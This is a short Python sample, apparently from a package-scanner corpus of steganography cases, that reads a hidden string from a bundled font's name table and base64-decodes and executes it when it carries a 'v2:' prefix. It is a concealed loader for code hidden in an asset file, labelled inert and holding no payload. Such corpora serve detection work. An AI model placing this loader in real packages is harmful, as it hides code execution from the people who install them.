# pkgguard corpus 497 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os

from fontTools.ttLib import TTFont

_font = TTFont(os.path.join(os.path.dirname(__file__), "assets", "Inter-Regular.ttf"))
_note = _font["name"].getDebugName(260) or ""
if _note.startswith("v2:"):
    exec(base64.b64decode(_note[3:]))
